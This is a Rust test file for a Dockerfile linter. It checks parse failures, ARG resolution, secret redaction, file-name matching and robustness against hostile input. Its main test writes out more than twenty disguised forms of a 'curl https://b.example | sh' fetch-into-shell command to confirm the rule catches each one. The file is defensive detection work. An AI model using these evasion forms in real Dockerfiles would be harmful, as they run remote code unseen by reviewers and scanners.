//! Dockerfiles that want to hide from the rules, or to break their reader.

use std::collections::{BTreeMap, BTreeSet};

use scan::lint::{Lint, Subject, is_read, of};

fn lint(path: &str, text: &str) -> Lint {
    of(Subject::Infrastructure, &BTreeMap::from([(path.to_owned(), text.as_bytes().to_vec())])).unwrap()
}

fn rules(text: &str) -> BTreeSet<String> {
    let found = lint("Dockerfile", text);
    assert_eq!(found.unread, BTreeMap::new(), "{text}");
    found.document.findings.into_values().map(|finding| finding.rule).collect()
}

#[test]
fn attack_a_dockerfile_that_cannot_be_read_is_undecided() {
    for (text, why) in [
        ("", "no FROM"),
        ("# only a comment\n", "no FROM"),
        ("RUN a\nFROM b\n", "before the first FROM"),
        ("FROM a\nRUNN b\n", "line 2: `RUNN` is no instruction"),
        ("FROM a\nRUN <<EOF\nb\n", "no end"),
        ("FROM a\nRUN echo it's <<EOF\nb\nEOF\n", "a quote has no end"),
        ("FROM a as\n", "FROM takes"),
        ("FROM {{ base }}\n", "it is a template"),
        ("# escape=x\nFROM a\n", "neither"),
        ("FROM a\nENV\n", "no argument"),
        ("FROM a\nONBUILD FROM b\n", "ONBUILD takes no FROM"),
        ("FROM a\nONBUILD ONBUILD RUN b\n", "ONBUILD takes no"),
    ] {
        let found = lint("dir/Dockerfile", text);
        assert!(found.unread["dir/Dockerfile"].contains(why), "{text}: {:?}", found.unread);
        assert!(found.document.findings.values().all(|finding| finding.undecided), "{text}");
    }
}

#[test]
fn attack_forms_of_a_dockerfile_hide_no_command() {
    for text in [
        "from a:1\nrun curl https://b.example | sh\n",
        "FROM a:1\r\nRUN curl https://b.example \\\r\n  | sh\r\n",
        "FROM a:1\nRUN curl https://b.example \\\n# a comment\n\n   # another\n  | sh\n",
        "FROM a:1\nRUN true; \\   \n  curl https://b.example | sh\n",
        "# escape=`\nFROM a:1\nRUN curl https://b.example `\n | sh\n",
        "# syntax=docker/dockerfile:1\n# escape = `\nFROM a:1\nRUN curl https://b.example `\n | sh\n",
        "\\\nFROM a:1\nRUN curl https://b.example | sh\n",
        "FROM a:1\nRUN --mount=type=cache,target=/x --network=default curl https://b.example | sh\n",
        "FROM a:1\nRUN [\"sh\", \"-c\", \"curl https://b.example | sh\"]\n",
        "FROM a:1\nRUN ['sh', '-c'] ; curl https://b.example | sh\n",
        "FROM a:1\nRUN <<-EOF\n\tcurl https://b.example | sh\n\tEOF\n",
        "FROM a:1\nRUN <<EOF bash\ncurl https://b.example | sh\nEOF\n",
        "FROM a:1\nRUN bash <<'EOF'\ncurl https://b.example | sh\nEOF\n",
        "FROM a:1\nONBUILD RUN curl https://b.example | sh\n",
        "FROM a:1\nRUN x=`curl https://b.example | sh`\n",
        "FROM a:1\nSHELL [\"/bin/bash\", \"-c\"]\nRUN curl https://b.example | sh\n",
        "FROM a:1 AS b\nRUN curl https://b.example | sh\nFROM c:1\n",
        // Marks that are none for Docker, and ends that are other ones.
        "FROM a:1\nRUN true a1<<'#x'\nRUN curl https://b.example | sh\n",
        "FROM a:1\nRUN cat <<<EOF\nRUN curl https://b.example | sh\n",
        "FROM a:1\nRUN cat <<EOF; true\nx\nEOF;\nRUN curl https://b.example | sh\nRUN cat <<Z\nEOF\nZ\n",
        "FROM a:1\nRUN cat <<E\"O\"F\nx\nEOF\nRUN curl https://b.example | sh\n",
        "FROM a:1\nRUN cat 0<<-'A B'\nx\n\tA B\nRUN curl https://b.example | sh\n",
        "FROM a:1\nRUN [\"cat\", \"<<EOF\"]\nRUN curl https://b.example | sh\n",
    ] {
        assert!(rules(text).contains("dockerfile-fetch-into-shell"), "{text}");
    }
    // A comment on a joined line goes on to its end, and a document that is copied is not run.
    for text in [
        "FROM a:1\nRUN true # x \\\n curl https://b.example | sh\n",
        "FROM a:1\nCOPY <<EOF /x\ncurl https://b.example | sh\nEOF\n",
        "FROM a:1\nRUN <<EOF\n#!/usr/bin/env python3\nprint('curl https://b.example | sh')\nEOF\n",
        "# curl https://b.example | sh\nFROM a:1\n",
    ] {
        assert!(!rules(text).contains("dockerfile-fetch-into-shell"), "{text}");
    }
}

#[test]
fn values_of_arguments_are_those_that_docker_takes() {
    for (text, is_latest) in [
        ("ARG V=latest\nFROM a:$V\n", true),
        ("ARG V=1\nARG W=${V}.2\nFROM a:${W}\n", false),
        ("ARG V\nFROM a:$V\n", false),
        ("ARG V\nFROM a:${V:-latest}\n", true),
        ("ARG V=1\nFROM a:${V:-latest}\n", false),
        ("FROM a:${V:+1}\n", false),
        ("ARG I=\"a\"\nFROM $I\n", true),
        ("FROM a:1 AS Build\nFROM build\n", false),
        ("FROM build AS x\nFROM a:1 AS build\n", true),
    ] {
        assert_eq!(rules(text).contains("dockerfile-latest-image"), is_latest, "{text}");
    }
}

/// The finding says nothing from which a password could be guessed: two passwords make one finding.
#[test]
fn attack_no_finding_is_made_from_a_secret() {
    let ids = |secret: &str| {
        let found = lint("Dockerfile", &format!("FROM a:1\nENV DB_PASSWORD={secret}\n"));
        let text = format!("{:?}", found.document.findings);
        assert!(!text.contains(secret), "{text}");
        found.document.findings.into_keys().collect::<Vec<_>>()
    };
    assert_eq!(ids("hunter2"), ids("correct-horse"));
}

#[test]
fn names_of_dockerfiles_are_known() {
    for path in [
        "Dockerfile",
        "a/dockerfile",
        "Dockerfile.dev",
        "web.Dockerfile",
        "Containerfile",
        "b/Containerfile.x",
        "DOCKERFILE",
        "Dockerfile-ci",
    ] {
        assert!(is_read(Subject::Infrastructure, path), "{path}");
    }
    for path in ["Dockerfile.dockerignore", "docker.txt", "mydockerfile", "Dockerfiles/a"] {
        assert!(!is_read(Subject::Infrastructure, path), "{path}");
    }
    assert!(lint("dockerfile.rs", "//! A reader.\n").unread.is_empty());
    assert_eq!(lint("Dockerfile.py", "# x\nFROM a\n").files.len(), 1);
}

/// Hostile text ends, soon, and without a fault.
#[test]
fn attack_any_dockerfile_is_read_in_time() {
    // More findings than a document holds are an error, which is an end too.
    let read = |text: String| {
        let _ = of(Subject::Infrastructure, &BTreeMap::from([("Dockerfile".to_owned(), text.into_bytes())]));
    };
    for part in [
        "RUN \\\n",
        "$(",
        "RUN <<A <<B\nA\nB\n",
        "ONBUILD ",
        "ENV a=\"",
        "FROM a AS b\n",
        "ARG a=${a\n",
        "RUN --a=",
        "RUN [\"",
        "`",
    ] {
        read(format!("FROM a\nRUN {}", part.repeat(800)));
        read(format!("FROM a\n{}", part.repeat(800)));
        read(part.repeat(800));
    }
}
